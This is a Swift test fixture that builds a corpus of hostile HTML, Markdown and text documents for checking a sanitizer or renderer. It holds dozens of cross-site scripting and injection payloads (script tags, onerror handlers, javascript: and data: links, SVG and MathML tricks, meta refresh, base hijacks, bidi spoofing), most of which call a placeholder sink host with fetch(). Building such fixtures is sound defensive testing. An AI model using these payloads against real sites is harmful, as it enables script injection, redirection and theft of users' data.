import Articles

/// Documents that would do something in a browser if a page passed any of their markup on. They try to
/// reach `sink`, run a script that says so, or change what a page is.
package struct HostileDocument: Sendable, CustomStringConvertible {
  package let name: String
  package let format: BodyFormat
  package let text: String

  package var description: String { name }

  /// Where a document sends who falls for it; a browser's test puts a listening server's address here.
  package static let sink = "http://sink.invalid"

  /// - Parameter sink: the address, without a slash behind it.
  package static func all(sink: String = sink) -> [HostileDocument] {
    html(sink).map { HostileDocument(name: $0, format: .html, text: page($1)) }
      + markdown(sink).map { HostileDocument(name: $0, format: .markdown, text: $1) }
      + text(sink).map { HostileDocument(name: $0, format: .text, text: $1) }
  }

  /// Texts for where a title, a tag, a note, a site, an author or an address is expected.
  package static func names(sink: String = sink) -> [String] {
    [
      "<script>fetch('\(sink)/name')</script>", "\"><img src=x onerror=\"fetch('\(sink)/x')\">",
      "' onmouseover='location=\"\(sink)/y\"' x='",
      "</textarea><script>fetch('\(sink)/t')</script>",
      "</title><meta http-equiv=refresh content='0;url=\(sink)/m'>",
      "javascript:fetch('\(sink)/j')",
      "&lt;script&gt;&#60;b&#62;&quot;&amp;amp;", "\u{0}<b\u{0}>\u{1}\u{7F}\u{85}",
      "\u{202E}gpj.exe\u{2066}\u{200F}", "--></style><base href=\(sink)>", "${7*7}{{7*7}}<%= 7 %>",
      "data:text/html,<script>fetch('\(sink)/d')</script>",
    ]
  }
}

extension HostileDocument {
  /// Enough words around it that it is taken for the page's text.
  private static func page(_ markup: String) -> String {
    let words = String(repeating: "A sentence about tea and the weather, with a comma. ", count: 6)
    return """
      <html><head><title>Tea</title></head><body><article><h1>Tea</h1><p>\(words)</p>
      \(markup)
      <p>\(words)</p></article></body></html>
      """
  }

  private static func html(_ sink: String) -> [(String, String)] {
    [
      ("script", "<script>fetch('\(sink)/1')</script><script src='\(sink)/1.js'></script><p>after"),
      (
        "event attributes",
        "<p onclick=\"fetch('\(sink)/2')\" onload=x>a<img src=x onerror=\"fetch('\(sink)/2')\" alt=b>"
      ),
      (
        "javascript links",
        """
        <p><a href="javascript:fetch('\(sink)/3')">a</a> <a href="jav&#9;ascript:x()">b</a>
        <a href=" &#1;javascript:x()">c</a> <a href="JaVaScRiPt:x()">d</a>
        <a href="java&NewLine;script&colon;x()">e</a> <a href="vbscript:x">f</a></p>
        """
      ),
      (
        "svg",
        """
        <p>a</p><svg onload="fetch('\(sink)/4')"><script>fetch('\(sink)/4')</script><image
        href="\(sink)/4.png"/><a xlink:href="javascript:x"><text>b</text></a><foreignObject>
        <iframe src="\(sink)/4"></iframe></foreignObject></svg>
        """
      ),
      (
        "mathml",
        """
        <p>a <math><mtext><table><mglyph><style><img src="\(sink)/5" onerror=x()></style></mglyph>
        </table></mtext><maction actiontype="statusline#http://x" xlink:href="javascript:x">b</maction>
        </math></p>
        """
      ),
      ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=\(sink)/6\"><p>a"),
      (
        "forms",
        """
        <form action="\(sink)/7" method=post><p>a<input name=token autofocus onfocus="x()"><button
        formaction="javascript:x">b</button></form><p>c<isindex action="\(sink)/7">
        """
      ),
      (
        "base",
        "<base href=\"\(sink)/\" target=_top><p><a href=\"x\">a</a><img src=\"y.png\" alt=b>"
      ),
      (
        "css",
        """
        <style>@import url('\(sink)/9.css'); body{background:url(\(sink)/9)}</style><link rel=stylesheet
        href="\(sink)/9.css"><p style="background:url('\(sink)/9');position:fixed;inset:0">a</p>
        """
      ),
      (
        "data addresses",
        """
        <p><a href="data:text/html,<script>x()</script>">a</a><img src="data:image/svg+xml,<svg
        onload=x()>" alt="b"><object data="data:text/html,c"></object><embed src="\(sink)/10"></p>
        """
      ),
      (
        "frames",
        """
        <iframe src="\(sink)/11" srcdoc="<script>parent.x()</script>"></iframe><frameset><frame
        src="\(sink)/11"></frameset><p>a
        """
      ),
      (
        "media",
        """
        <video src="\(sink)/12" autoplay onerror="x()"><source src="\(sink)/12" onerror="x()"></video>
        <audio src="\(sink)/12" autoplay></audio><p>a<picture><source srcset="\(sink)/12.webp">
        <img srcset="\(sink)/12 1x" src="\(sink)/12.png" alt="b"></picture>
        """
      ),
      (
        "broken quotation marks",
        """
        <p title='"><script>fetch("\(sink)/13")</script>'>a</p><p><a href='https://e.org/"onclick="x()'>b
        </a><img alt='"><script>x()</script>' src='"onerror="x()'></p>
        """
      ),
      (
        "unclosed tags",
        "<p>a <b <script>x()</script> <img src=\"\(sink)/14\" alt=\"<p>b</p> </article></main><h1>c"
      ),
      (
        "comments",
        "<!--><script>x()</script--><p>a<!--!><img src=\(sink)/15 onerror=x()>--><![CDATA[<script>x()"
      ),
      (
        "text elements",
        """
        <noscript><p title="</noscript><img src='\(sink)/16' onerror=x()>"></noscript><textarea></p>
        <script>x()</script></textarea><xmp><script>x()</script></xmp><plaintext><script>x()</script>
        """
      ),
      (
        "templates",
        "<template><script>x()</script></template><p is=\"x-y\" slot=z>a<x-y onclick=x()>b</x-y>"
      ),
      (
        "names of the page",
        """
        <p id="text" name="token">a</p><a id="mark" name="highlight" href="#text">b</a><form id="note">
        </form><img name="getElementById" id="data" src="\(sink)/18" alt="c">
        """
      ),
      ("nul", "<p>a<scr\u{0}ipt>x()</scr\u{0}ipt><a href=\"java\u{0}script:x()\">b</a>\u{0}c"),
    ]
  }

  private static func markdown(_ sink: String) -> [(String, String)] {
    [
      (
        "markdown links",
        """
        # Tea

        [a](javascript:fetch%28'\(sink)/20'%29) [b](<javascript:x()>) <javascript:x()> [c][r]
        ![d](javascript:x()) [e](https://e.org/"onclick="x()) [f](data:text/html,<script>x</script>)

        [r]: jav&#x09;ascript:x() "\\" onmouseover=x() \\""
        """
      ),
      (
        "markdown with html",
        """
        <script>fetch('\(sink)/21')</script>

        a <img src="\(sink)/21.png" onerror="x()" alt="b"> <a href="javascript:x()">c</a>

        <div onclick="x()">

        **d** <svg/onload=x()> ``</pre><script>x()</script>``

        ```html"><script>x()</script>
        </code></pre><script>x()</script>
        ```
        """
      ),
      (
        "bidi",
        """
        # \u{202E}eltit\u{202C} Tea

        \u{2067}a [\u{202E}moc.knab//:sptth](https://e.org) \u{061C}b \u{2066}\u{2066}\u{2066}

        | \u{202B}c | d |
        |---|---|
        | e\u{2029}f | g\u{2028}<b>h |
        """
      ),
      (
        "markdown pictures",
        """
        ![a](\(sink)/23.png) ![b](//\(sink.dropFirst(7))/23) ![c](x.svg "\\"onload=x()")
        ![<script>x()</script>](d.png) [![e](\(sink)/23.gif)](javascript:x())
        """
      ),
      (
        "nested deeply",
        String(repeating: "> - ", count: 300) + "<b onclick=x()>a\n\n"
          + String(repeating: "*[", count: 300) + "b"
          + String(repeating: "](javascript:x)*", count: 300)
      ),
    ]
  }

  private static func text(_ sink: String) -> [(String, String)] {
    [
      (
        "text",
        """
        <!doctype html><html><head><meta http-equiv="refresh" content="0;url=\(sink)/25">
        <script>fetch("\(sink)/25")</script></head>

        </div></article></main><script>x()</script>&lt;b&gt;&#60;i&#62;\u{0}\u{8}\u{1B}[31m
        javascript:fetch('\(sink)/25')
        """
      )
    ]
  }
}
